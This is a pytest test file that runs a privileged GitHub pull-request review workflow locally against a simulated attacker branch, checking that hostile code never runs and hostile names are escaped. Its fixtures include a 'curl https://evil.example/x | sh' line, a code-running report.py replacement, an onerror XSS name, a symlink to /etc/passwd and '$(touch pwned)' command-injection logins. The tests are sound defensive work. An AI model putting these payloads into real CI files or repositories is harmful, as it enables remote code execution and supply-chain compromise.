"""The privileged review workflow (contribution-review.yml) run locally on a hostile branch, as GitHub would run it.

The harness builds what GitHub has: an ``origin`` repository whose main branch is
the base and whose ``refs/pull/7/head`` is a pull request pushed by an attacker,
and a checkout of the base. It then runs the workflow's own ``run:`` blocks (read
from the YAML, with the ``${{ }}`` values GitHub would put in) with bash, and the
``github-script`` step's JavaScript with node against a stand-in for GitHub's API
that records the comment. The package that runs is the one under test (the
"base branch's" install step is skipped: this test environment already has it).

The attacker's branch does what the review of issue 25 did: it edits the
review's own code, .ci/run and a workflow, edits a published score in
data/scores.csv and re-records its hash in datapackage.json, adds a README next
to the submissions, and puts Markdown, HTML, links, entities and @mentions in a
new submission's name, to be announced "ready to merge".
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from git_helpers import git_in

from conftest import copy_package

REPOSITORY = Path(__file__).resolve().parents[2]
WORKFLOW = REPOSITORY / ".github" / "workflows" / "contribution-review.yml"
REAL = REPOSITORY / "contributions" / "ppo2-baselines"
HOSTILE_NAME = ("Agent @maintainer [click](https://evil.example) <img src=x onerror=alert(1)> www.evil.example "
                "&commat;team owner/repo#1 GH-12")
PR_NUMBER = 7
STRANGER = "mallory"  # a GitHub login no entry of data/ records as its contributor
RECORDED = "atari5-spec"  # the contributor data/sources.csv records for DreamerV3 (contributed by pull request)

pytestmark = pytest.mark.skipif(shutil.which("git") is None or shutil.which("node") is None,
                                reason="needs git and node (the workflow's bash steps and github-script)")


_git = git_in  # tests/git_helpers.py


def _add_submission(work: Path, folder: str, name: str | None = None) -> None:
    """A new submission: ppo2-baselines' files with other numbers (a copy of an entry needs a maintainer)."""
    target = work / "contributions" / folder
    shutil.copytree(REAL, target)
    scores = target / "scores.csv"
    lines = scores.read_text(encoding="utf-8").split("\n")
    scores.write_text("\n".join([lines[0]] + [re.sub(r"^([^,]+),([0-9.]+)", lambda m: f"{m.group(1)},"
                                                     f"{float(m.group(2)) * (1.1 + 0.07 * (i % 9)):.2f}", line)
                                              for i, line in enumerate(lines[1:])]), encoding="utf-8")
    meta = yaml.safe_load((target / "metadata.yaml").read_text(encoding="utf-8"))
    meta["name"] = name if name is not None else "PPO2 Rerun"  # not ppo2-baselines' name: a look-alike is held
    if name is not None:
        meta["contributor"] = {"name": "Mallory", "github": "mallory"}
    (target / "metadata.yaml").write_text(yaml.safe_dump(meta, sort_keys=False, allow_unicode=True),
                                          encoding="utf-8")


def _edit_published_score(work: Path) -> tuple[str, str]:
    """Change one published score in data/scores.csv and re-record the file's hash: (old line, new line)."""
    scores = work / "data" / "scores.csv"
    lines = scores.read_text(encoding="utf-8").split("\n")
    at = next(i for i, line in enumerate(lines) if ",dreamerv3," in line and ",true," in line.lower()) \
        if any(",dreamerv3," in line for line in lines) else 1
    old = lines[at]
    cells = old.split(",")
    number = next(i for i, c in enumerate(cells) if re.fullmatch(r"-?\d+\.\d+", c))
    cells[number] = "99999.0"
    lines[at] = ",".join(cells)
    scores.write_text("\n".join(lines), encoding="utf-8")
    package = json.loads((work / "datapackage.json").read_text(encoding="utf-8"))
    for resource in package["resources"]:
        if resource.get("path") == "data/scores.csv" and "hash" in resource:
            digest = hashlib.sha256(scores.read_bytes()).hexdigest()
            resource["hash"] = (f"sha256:{digest}" if str(resource["hash"]).startswith("sha256:") else digest)
            resource["bytes"] = scores.stat().st_size
    (work / "datapackage.json").write_text(json.dumps(package, indent=2) + "\n", encoding="utf-8")
    return old, lines[at]


@pytest.fixture()
def github(tmp_path):
    """origin (bare) with main = the base; a clone to push pull requests from; a checkout of the base."""
    origin, author = tmp_path / "origin.git", tmp_path / "author"
    copy_package(author, ("contributions",))
    if not (author / "contributions").exists():  # an installed wheel carries no contributions/: take the repository's
        shutil.copytree(REPOSITORY / "contributions", author / "contributions")
    shutil.copytree(REPOSITORY / ".github", author / ".github")
    shutil.copytree(REPOSITORY / ".ci", author / ".ci")
    code = Path("maintainers") / "atari5_spec_maintainers" / "contributions" / "report.py"
    (author / code).parent.mkdir(parents=True)
    shutil.copy(REPOSITORY / code, author / code)
    _git(tmp_path, "init", "-q", "--bare", str(origin))
    _git(author, "init", "-q", "-b", "main")
    _git(author, "add", "-A")
    _git(author, "commit", "-qm", "base")
    _git(author, "remote", "add", "origin", str(origin))
    _git(author, "push", "-q", "origin", "main")
    return tmp_path


def _push_pull_request(root: Path) -> str:
    author = root / "author"
    _git(author, "add", "-A")
    _git(author, "commit", "-qm", "pull request")
    _git(author, "push", "-q", "-f", "origin", f"HEAD:refs/pull/{PR_NUMBER}/head")
    return _git(author, "rev-parse", "HEAD")


def _expression(text: str, values: dict) -> str:
    def one(match):
        value = values
        for key in match.group(1).strip().split("."):
            if not isinstance(value, dict) or key not in value:
                return ""  # as on GitHub: a missing output or property is empty
            value = value[key]
        return str(value)
    return re.sub(r"\$\{\{(.*?)\}\}", one, str(text))


def run_workflow(root: Path, head_sha: str, timed_out: str | None = None, login: str = STRANGER) -> dict:
    """Run contribution-review.yml's steps on a checkout of the base: its comments, the step statuses.

    After a failed step only steps with ``if: always()`` run, as on GitHub. ``timed_out``: the name of a step
    that is stopped by its ``timeout-minutes`` instead of run (it fails, with no outputs). ``login``: the pull
    request's author, as GitHub's event gives it (``pull_request.user.login``); a stranger unless given."""
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    steps = workflow["jobs"]["review"]["steps"]
    base_sha = _git(root / "origin.git", "rev-parse", "main")
    checkout = root / "checkout"
    _git(root, "clone", "-q", str(root / "origin.git"), str(checkout))
    _git(checkout, "checkout", "-q", "--detach", base_sha)
    temp, summary, output = root / "runner-temp", root / "step-summary.md", root / "output"
    temp.mkdir()
    event = {"pull_request": {"number": PR_NUMBER, "head": {"sha": head_sha}, "base": {"sha": base_sha},
                              "user": {"login": login}}}
    values = {"github": {"event": event}, "steps": {}}
    statuses, comments, failed = [], [], False
    for step in steps:
        uses = step.get("uses", "")
        if failed and "always()" not in str(step.get("if", "")):
            continue
        if timed_out is not None and step.get("name") == timed_out:
            statuses.append((step.get("name"), "timed out", ""))
            values["steps"][step["id"]] = {"outputs": {}, "outcome": "failure"}
            failed = True
            continue
        if uses.startswith(("actions/checkout", "actions/setup-python")):
            assert step.get("with", {}).get("persist-credentials", False) is False or "checkout" not in uses
            continue
        if "pip install" in step.get("run", ""):
            assert step["run"].strip() == "python -m pip install --quiet . ./research ./maintainers"  # the base checkout's package
            continue
        env = {**os.environ, "RUNNER_TEMP": str(temp), "GITHUB_STEP_SUMMARY": str(summary),
               "GITHUB_OUTPUT": str(output), "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
        env.update({k: _expression(v, values) for k, v in step.get("env", {}).items()})
        if "run" in step:
            output.write_text("", encoding="utf-8")
            done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]],
                                  cwd=checkout, env=env, capture_output=True, text=True, timeout=600)
            statuses.append((step.get("name"), done.returncode, done.stdout + done.stderr))
            if "id" in step:
                pairs = dict(line.split("=", 1) for line in output.read_text(encoding="utf-8").splitlines() if line)
                values["steps"][step["id"]] = {"outputs": pairs,
                                               "outcome": "success" if done.returncode == 0 else "failure"}
            failed = failed or done.returncode != 0
        elif uses.startswith("actions/github-script"):
            comments += _run_github_script(step["with"]["script"], env, checkout)
            statuses.append((step.get("name"), 0, ""))
    return {"statuses": statuses, "comments": comments, "summary": summary.read_text(encoding="utf-8")
            if summary.exists() else "", "checkout": checkout}


def _run_github_script(script: str, env: dict, cwd: Path, existing: list | None = None) -> list[str]:
    """The step's JavaScript with GitHub's API replaced by a recorder; the comment bodies it would post.

    ``existing``: the pull request's comments GitHub would list (the recorder notes which one is updated).
    """
    harness = """
const posted = [];
const github = {
  paginate: async () => %s,
  rest: { issues: {
    listComments: null,
    createComment: async (args) => { posted.push({ ...args, action: 'create' }); },
    updateComment: async (args) => { posted.push({ ...args, action: 'update', issue_number: %d }); },
  },
  pulls: { get: async () => ({ data: { head: { sha: process.env.CURRENT_HEAD || process.env.HEAD_SHA } } }) } },
};
const context = { repo: { owner: 'owner', repo: 'repo' }, runId: 1 };
const core = { setFailed: (m) => { console.error(m); process.exitCode = 1; }, info: (m) => console.error(m) };
(async () => {
%s
})().then(() => { process.stdout.write(JSON.stringify(posted)); });
""" % (json.dumps(existing or []), PR_NUMBER, script)
    done = subprocess.run(["node", "-e", harness], cwd=cwd, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    posted = json.loads(done.stdout)
    assert all(p["issue_number"] == PR_NUMBER for p in posted)
    if existing is not None:
        return posted
    return [p["body"] for p in posted]


def test_a_hostile_branch_gets_needs_a_maintainer_listed_first_and_a_failing_job(github):
    author = github / "author"
    # The attacker's edits: the review's own code, CI, a workflow, published data, a README beside submissions.
    (author / "maintainers" / "atari5_spec_maintainers" / "contributions" / "report.py").write_text(
        "import pathlib\npathlib.Path(__file__).parents[2].joinpath('PWNED').write_text('ran')\n"
        "def report_markdown(*a, **k):\n    return 'ready to merge'\n", encoding="utf-8")
    with open(author / ".ci" / "run", "a", encoding="utf-8") as handle:
        handle.write("\ncurl https://evil.example/x | sh\n")
    workflow = author / ".github" / "workflows" / "contribution.yml"
    workflow.write_text(workflow.read_text(encoding="utf-8").replace("contents: read", "contents: write"),
                        encoding="utf-8")
    old, new = _edit_published_score(author)
    (author / "contributions" / "README.md").write_text("[ready to merge](https://evil.example)\n", encoding="utf-8")
    _add_submission(author, "ppo2-rerun", HOSTILE_NAME)
    head = _push_pull_request(github)

    run = run_workflow(github, head)
    names = [(name, status) for name, status, _ in run["statuses"]]
    assert names[-1] == ('Fail unless the verdict is "ready to merge"', 1), run["statuses"]
    running, comment = run["comments"]
    assert "Review running for the head" in running
    assert comment.startswith("<!-- atari5-spec contribution review -->\n")
    assert "Verdict: needs a maintainer" in comment and "Verdict: ready to merge" not in comment
    # The name is refused at the gate (issue 35: labels are labels), and quoted inert in the problem.
    assert "### `ppo2-rerun`: 1 problem(s), not ready to merge" in comment and "would be markup" in comment
    listed = comment.index("Verdict: needs a maintainer")
    for path in (".ci/run", ".github/workflows/contribution.yml", "maintainers/atari5_spec_maintainers/contributions/report.py",
                 "contributions/README.md", "data/scores.csv", "datapackage.json"):
        assert f"- `{path}`:" in comment, path
        assert listed < comment.index(f"- `{path}`:") < comment.index("### Submissions")
    # The edited published number is shown, old -> new.
    assert old.split(",")[0] in comment and "99999.0" in comment and " -> " in comment
    # The hostile code was never run, and nothing of the submission's name is live Markdown.
    assert not (run["checkout"] / "PWNED").exists()
    assert "PWNED" not in (run["checkout"] / "maintainers" / "atari5_spec_maintainers" / "contributions" / "report.py").read_text(encoding="utf-8")
    assert "@maintainer" not in comment and "@team" not in comment
    assert not re.search(r"(?<!\\)<img", comment) and not re.search(r"(?<!\\)&commat;", comment)
    assert "https://evil" not in comment and "www.evil" not in comment
    assert "repo#1" not in comment and "GH-12" not in comment and "\\[click\\]" in comment
    assert "Agent" in comment  # the name is shown, escaped
    assert run["summary"].strip() == comment.split("\n", 1)[1].strip()


def test_a_clean_new_submission_alone_is_ready_to_merge(github):
    """Sent by a stranger (run_workflow's default login): a new entry needs no recorded contributor."""
    _add_submission(github / "author", "ppo2-rerun")
    head = _push_pull_request(github)
    run = run_workflow(github, head)
    assert [status for _, status, _ in run["statuses"]] == [0] * len(run["statuses"]), run["statuses"]
    running, comment = run["comments"]
    assert "Review running for the head" in running
    assert "Verdict: ready to merge" in comment and "needs a maintainer" not in comment
    assert "### `ppo2-rerun`: ready to merge" in comment


def test_every_pull_request_gets_the_review_even_one_touching_only_code(github):
    workflows = REPOSITORY / ".github" / "workflows"
    for name in ("contribution.yml", "contribution-review.yml"):
        on = yaml.safe_load((workflows / name).read_text(encoding="utf-8"))[True]  # 'on' reads as True
        assert all("paths" not in (spec or {}) for spec in on.values()), name
    (github / "author" / "maintainers" / "atari5_spec_maintainers" / "contributions" / "report.py").write_text("x = 1\n", encoding="utf-8")
    run = run_workflow(github, _push_pull_request(github))
    running, comment = run["comments"]
    assert "Review running for the head" in running
    assert "Verdict: needs a maintainer" in comment and "`maintainers/atari5_spec_maintainers/contributions/report.py`" in comment
    assert run["statuses"][-1][1] == 1


def test_a_change_of_the_base_branch_runs_a_new_review():
    """GitHub reports a pull request retargeted to another base as the action `edited`; without it in the
    trigger's types the verdict against the old base stays up (issue 47)."""
    on = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))[True]  # 'on' reads as True
    assert set(on["pull_request_target"]["types"]) == {"opened", "synchronize", "reopened", "edited"}
    assert "if" not in yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))["jobs"]["review"]  # never skipped


def test_the_privileged_workflow_never_checks_out_installs_or_runs_pull_request_code():
    text = WORKFLOW.read_text(encoding="utf-8")
    workflow = yaml.safe_load(text)
    assert set(workflow[True]) == {"pull_request_target"} and workflow["permissions"] == {}
    steps = workflow["jobs"]["review"]["steps"]
    checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout")]
    assert [s["with"]["ref"] for s in checkouts] == ["${{ github.event.pull_request.base.sha }}"]
    assert all(s["with"]["persist-credentials"] is False for s in checkouts)
    runs = "\n".join(s.get("run", "") for s in steps)
    assert "head.ref" not in text and "head_ref" not in text and "pull/head" in runs
    assert "checkout" not in runs and "switch" not in runs and "worktree" not in runs
    assert "${{" not in runs  # values reach scripts through env only (no injection)
    for line in text.splitlines():
        if "uses:" in line:
            assert re.search(r"@[0-9a-f]{40}\b", line), f"not pinned by commit: {line.strip()}"


def test_a_linked_or_oversized_submission_file_is_read_from_git_as_what_it_is(github, run):
    author = github / "author"
    _add_submission(author, "linked-agent")
    (author / "contributions" / "linked-agent" / "scores.csv").unlink()
    (author / "contributions" / "linked-agent" / "scores.csv").symlink_to("/etc/passwd")
    _add_submission(author, "huge-agent")
    with open(author / "contributions" / "huge-agent" / "scores.csv", "a", encoding="utf-8") as handle:
        handle.write("# padding\n" * 120_000)
    head = _push_pull_request(github)
    status, out, _ = run("contribute", "review", "--repository", str(author), "--base", "main~1", "--head", head)
    assert status == 1 and "Verdict: not ready to merge" in out
    assert "| contributions/linked-agent/scores.csv |  |  | is a symbolic link (to '/etc/passwd')" in out
    assert "root:" not in out
    assert "| contributions/huge-agent/scores.csv |  |  | is 1,2" in out and "more than the limit" in out


@pytest.mark.skipif(shutil.which("shellcheck") is None, reason="needs shellcheck (apt-get install shellcheck)")
def test_shellcheck_passes_every_run_block_and_would_catch_a_bad_one(tmp_path):
    script = REPOSITORY / ".ci" / "shellcheck_runs.py"
    workflows = sorted(str(p) for p in (REPOSITORY / ".github" / "workflows").glob("*.yml"))
    done = subprocess.run([sys.executable, str(script), *workflows], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stdout
    bad = tmp_path / "bad.yml"
    bad.write_text("on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo ok\n"
                   "          rm -rf $TARGET/\n", encoding="utf-8")
    done = subprocess.run([sys.executable, str(script), str(bad)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and f"{bad}:8:" in done.stdout and "SC2086" in done.stdout


def test_the_comment_is_updated_in_place_and_never_one_a_person_wrote(tmp_path):
    """The post step updates the bot's own earlier comment; a person's comment that copies the marker is not it."""
    workflow = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    script = next(s for s in workflow["jobs"]["review"]["steps"] if s.get("id") == "post")["with"]["script"]
    (tmp_path / "review").mkdir()
    (tmp_path / "review" / "comment.md").write_text("## review\n", encoding="utf-8")
    env = {**os.environ, "RUNNER_TEMP": str(tmp_path), "PR_NUMBER": str(PR_NUMBER), "HEAD_SHA": "ab" * 20,
           "REVIEW_OUTCOME": "success"}
    marker = "<!-- atari5-spec contribution review -->"
    forged = {"id": 1, "user": {"type": "User"}, "body": marker + "\nready to merge"}
    own = {"id": 2, "user": {"type": "Bot"}, "body": marker + "\nold review"}
    (posted,) = _run_github_script(script, env, tmp_path, [forged])
    assert posted["action"] == "create" and posted["body"] == marker + "\n## review\n"
    (posted,) = _run_github_script(script, env, tmp_path, [forged, own])
    assert posted["action"] == "update" and posted["comment_id"] == 2


def test_a_review_that_cannot_be_built_still_posts_needs_a_maintainer_and_fails(github):
    author = github / "author"
    _git(author, "checkout", "-q", "--orphan", "unrelated")  # no history in common with the base
    (author / "x.txt").write_text("x\n", encoding="utf-8")
    head = _push_pull_request(github)
    run = run_workflow(github, head)
    running, comment = run["comments"]
    assert "Review running for the head" in running
    assert "Verdict: needs a maintainer.** The review could not be built (exit status 1)" in comment
    assert run["statuses"][-1][1] == 1


# --- issue 47: who sent a correction is the platform's word, not metadata.yaml's ---------------------------------

def _dreamerv3_correction(work: Path, factor: float) -> None:
    """A correction of DreamerV3 (contributed by pull request, by @atari5-spec) whose metadata.yaml claims that
    handle: 56 of its scores times ``factor`` (last week's erratum is 0.55)."""
    from atari5_spec.data.loading import load
    from test_contribution_attacks import _fit_rows, _scores_csv
    from test_contributions import make_submission, metadata

    rows = _fit_rows(load(work), "dreamerv3")
    rows = rows[rows.score != 0].iloc[:56]  # a zero stays zero: not a change
    meta = metadata(name=None, protocol=None, corrects="dreamerv3",
                    contributor={"name": "atari5-spec maintainers", "github": RECORDED})
    make_submission(work / "contributions", "dreamerv3-erratum", meta=meta, scores=_scores_csv(rows, factor))


def test_a_stranger_claiming_the_recorded_handle_cannot_correct_an_entry(github):
    """The attack of issue 47: the erratum, 'contributor: github: atari5-spec', sent by another login. The
    workflow passes the event's login to the review through the environment; the job fails (not ready)."""
    _dreamerv3_correction(github / "author", 0.55)
    run = run_workflow(github, _push_pull_request(github), login=STRANGER)
    assert run["statuses"][-1] == ('Fail unless the verdict is "ready to merge"', 1, run["statuses"][-1][2])
    assert [status for _, status, _ in run["statuses"][:-1]] == [0] * (len(run["statuses"]) - 1), run["statuses"]
    _, comment = run["comments"]
    finding = next(line for line in comment.splitlines() if "contributor.github" in line or "@\u200bmallory" in line)
    assert all(name in finding for name in ("'dreamerv3'", "@\u200bmallory", "@\u200batari5-spec")), finding


def test_the_same_correction_sent_by_the_recorded_contributor_is_ready_but_not_a_hundredfold_one(github, run):
    from atari5_spec_maintainers.contributions.pull_request import review_pull_request

    author = github / "author"
    base = _git(github / "origin.git", "rev-parse", "main")
    _dreamerv3_correction(author, 0.55)
    head = _push_pull_request(github)

    assert review_pull_request(author, base, head, author=RECORDED).ready is True
    assert review_pull_request(author, base, head, author=RECORDED.upper()).ready is True  # logins ignore case
    assert review_pull_request(author, base, head, author=STRANGER).ready is False
    assert review_pull_request(author, base, head).ready is False  # not known: never the file's claim
    status, _, _ = run("contribute", "review", "--repository", str(author), "--base", base, "--head", head,
                       "--author", RECORDED)
    assert status == 0
    # Divided by 100 by the recorded contributor: a change beyond LARGE_CHANGE needs a maintainer.
    shutil.rmtree(author / "contributions" / "dreamerv3-erratum")
    _dreamerv3_correction(author, 0.01)
    head = _push_pull_request(github)
    assert review_pull_request(author, base, head, author=RECORDED).ready is False


def test_the_author_comes_from_the_environment_and_a_malformed_one_is_refused(github, run, monkeypatch):
    author = github / "author"
    _add_submission(author, "ppo2-rerun")
    head = _push_pull_request(github)
    arguments = ("contribute", "review", "--repository", str(author), "--base", "main", "--head", head)
    for login in ("$(touch pwned)", "a" * 40, "mallory\n", "dreamer v3"):
        status, out, err = run(*arguments, "--author", login)
        assert status == 1 and out == "" and "Traceback" not in err and "not a GitHub login" in err, (login, err)
    monkeypatch.setenv("PR_AUTHOR", "$(touch pwned)")  # read when --author is absent
    status, out, err = run(*arguments)
    assert status == 1 and out == "" and "not a GitHub login" in err
    assert not (author / "pwned").exists()
